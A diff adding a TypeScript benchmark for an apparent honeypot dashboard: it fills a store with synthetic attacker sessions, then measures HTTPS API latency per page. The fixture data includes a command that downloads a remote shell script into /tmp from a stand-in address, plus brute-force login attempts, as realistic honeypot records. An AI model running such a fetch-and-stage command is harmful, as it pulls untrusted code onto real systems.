@@ -1,0 +1,138 @@
+// Dashboard benchmark: one million stored events (APIARY_BENCH_EVENTS to change it), the dashboard's
+// HTTPS API under a bounded local load (CONCURRENCY clients, REQUESTS requests per page), p50/p95 per
+// page against a trivial authenticated request (/api/session) measured in the same run.
+import { mkdtempSync, rmSync } from 'node:fs';
+import { Agent, request } from 'node:https';
+import { cpus, loadavg, tmpdir } from 'node:os';
+import { join } from 'node:path';
+import pino from 'pino';
+import { validateConfig } from '../src/config/load.js';
+import type { Config } from '../src/config/schema.js';
+import type { ApiaryEvent } from '../src/events/catalogue.js';
+import { newEventId } from '../src/events/id.js';
+import { SqliteStore } from '../src/store/sqlite/sqlite-store.js';
+import { SqliteDashboardReads } from '../src/store/sqlite/dashboard-reads.js';
+import { startDashboard } from '../src/web/server.js';
+
+const TOTAL = Number(process.env.APIARY_BENCH_EVENTS ?? 1_000_000);
+const CONCURRENCY = 4;
+const REQUESTS = 200;
+const SOURCES = 5000;
+const PASSWORD = 'bench password 123';
+
+/** Sessions of 8 events: open, version, 3 logins, 2 commands, close; one source keeps its service. */
+function sessionEvents(n: number, first: number, startMs: number, stepMs: number): ApiaryEvent[] {
+  const out: ApiaryEvent[] = [];
+  for (let s = first; s < first + n; s++) {
+    const srcN = (s * 7919) % SOURCES;
+    const src = srcN % 40 === 0 ? `10.1.${srcN >> 8}.${srcN & 255}` : `${(srcN % 200) + 20}.${(srcN * 13) % 256}.${srcN >> 6}.${(srcN % 250) + 1}`;
+    const protocol = srcN % 4 === 0 ? 'telnet' : 'ssh';
+    const t0 = startMs + s * stepMs;
+    const env = { sensor: `sensor-${s % 3}`, session: `b${s.toString(36).padStart(8, '0')}`, protocol, src_ip: src, src_port: 40000 + (s % 20000), dst_ip: '192.0.2.10', dst_port: protocol === 'ssh' ? 22 : 23 };
+    const add = (k: number, type: string, payload: Record<string, unknown>): void => {
+      const t = t0 + k * 100;
+      out.push({ id: newEventId(t), time: new Date(t).toISOString(), type, ...env, payload } as ApiaryEvent);
+    };
+    add(0, 'connection.open', { transport: 'tcp' });
+    add(1, 'client.version', { version: 'SSH-2.0-Go' });
+    for (let k = 0; k < 3; k++) add(2 + k, 'auth.attempt', { method: 'password', username: ['root', 'admin', 'ubnt', 'oracle'][(s + k) % 4], password: `pw${(s * 3 + k) % 900}`, success: k === 2 && s % 5 === 0 });
+    add(5, 'command.input', { input: `cd /tmp; wget http://198.51.100.${s % 250}/x${s % 70}.sh` });
+    add(6, 'command.input', { input: 'uname -a' });
+    add(7, 'connection.close', { duration_ms: 700, bytes_in: 900, bytes_out: 2000, reason: 'client' });
+  }
+  return out;
+}
+
+function get(agent: Agent, port: number, path: string, cookie: string): Promise<number> {
+  return new Promise((resolve, reject) => {
+    const req = request({ host: '127.0.0.1', port, path, agent, rejectUnauthorized: false, headers: { cookie } }, (res) => {
+      res.resume();
+      res.on('end', () => (res.statusCode === 200 ? resolve(res.statusCode) : reject(new Error(`${path}: HTTP ${res.statusCode}`))));
+    });
+    req.on('error', reject);
+    req.end();
+  });
+}
+
+/** REQUESTS requests of PATH from CONCURRENCY clients in parallel; latencies in ms, sorted. */
+async function load(agent: Agent, port: number, paths: () => string, cookie: string): Promise<number[]> {
+  const times: number[] = [];
+  let left = REQUESTS;
+  await Promise.all(
+    Array.from({ length: CONCURRENCY }, async () => {
+      while (left-- > 0) {
+        const t = performance.now();
+        await get(agent, port, paths(), cookie);
+        times.push(performance.now() - t);
+      }
+    }),
+  );
+  return times.sort((a, b) => a - b);
+}
+
+const pct = (sorted: number[], p: number): number => sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
+
+async function main(): Promise<void> {
+  const dir = mkdtempSync(join(tmpdir(), 'apiary-dash-bench-'));
+  try {
+    const config = validateConfig({ data_dir: dir, networks: { internal: ['10.0.0.0/8'] }, dashboard: { listen: '127.0.0.1:0', admin_password: PASSWORD } }) as unknown as Config;
+    const store = new SqliteStore(join(dir, 'apiary.db'));
+    const sessions = Math.ceil(TOTAL / 8);
+    const start = Date.UTC(2025, 0, 1);
+    const stepMs = Math.floor((300 * 86_400_000) / sessions);
+    const tFill = performance.now();
+    for (let done = 0; done < sessions; done += 5000) await store.insertBatch(sessionEvents(Math.min(5000, sessions - done), done, start, stepMs));
+    const fillS = (performance.now() - tFill) / 1000;
+    const stored = await store.count();
+    const dash = await startDashboard({
+      config,
+      dash: config.dashboard!,
+      store,
+      reads: new SqliteDashboardReads(join(dir, 'apiary.db')),
+      services: [],
+      onEvents: () => () => undefined,
+      log: pino({ level: 'silent' }),
+    });
+    const port = dash.bound[0]!.port;
+    const agent = new Agent({ keepAlive: true, maxSockets: CONCURRENCY });
+    const login = await new Promise<string>((resolve, reject) => {
+      const req = request({ host: '127.0.0.1', port, path: '/api/login', method: 'POST', agent, rejectUnauthorized: false, headers: { 'content-type': 'application/json' } }, (res) => {
+        res.resume();
+        res.on('end', () => resolve(String(([] as string[]).concat(res.headers['set-cookie'] ?? [])[0]).split(';')[0]!));
+      });
+      req.on('error', reject);
+      req.end(JSON.stringify({ username: 'admin', password: PASSWORD }));
+    });
+
+    // The first overview computes the period's aggregates (one pass); later ones are served from them.
+    const tCold = performance.now();
+    await get(agent, port, '/api/overview', login);
+    const coldS = (performance.now() - tCold) / 1000;
+
+    const busySrc = sessionEvents(1, 0, start, stepMs)[0]!.src_ip;
+    let n = 0;
+    const rows: [string, number[]][] = [
+      ['reference: /api/session', await load(agent, port, () => '/api/session', login)],
+      ['overview (aggregates warm)', await load(agent, port, () => '/api/overview', login)],
+      ['sessions: source + service', await load(agent, port, () => `/api/sessions?src=${busySrc}&protocol=ssh`, login)],
+      ['sessions: user name + since', await load(agent, port, () => `/api/sessions?username=oracle&since=2025-06-01`, login)],
+      ['sessions: command contains', await load(agent, port, () => `/api/sessions?command=x42.sh`, login)],
+      ['session page', await load(agent, port, () => `/api/sessions/b${((n++ * 7717) % sessions).toString(36).padStart(8, '0')}`, login)],
+    ];
+    agent.destroy();
+    await dash.close();
+    await store.close();
+    const ref = pct(rows[0]![1], 95);
+    const lines = [
+      `dashboard bench (${stored} stored events in ${sessions} sessions, filled in ${fillS.toFixed(0)} s; ${CONCURRENCY} clients x ${REQUESTS} requests per page over HTTPS keep-alive)`,
+      `  first overview (cold: one pass over every event)  ${coldS.toFixed(1)} s`,
+      ...rows.map(([name, t]) => `  ${name.padEnd(30)} p50 ${pct(t, 50).toFixed(1).padStart(6)} ms  p95 ${pct(t, 95).toFixed(1).padStart(6)} ms  (p95 ${(pct(t, 95) / ref).toFixed(1)}x reference)`),
+      `  (machine load average ${loadavg()[0]!.toFixed(1)} on ${cpus().length} CPUs while measuring)`,
+    ];
+    process.stdout.write(`${lines.join('\n')}\n`);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+}
+
+await main();
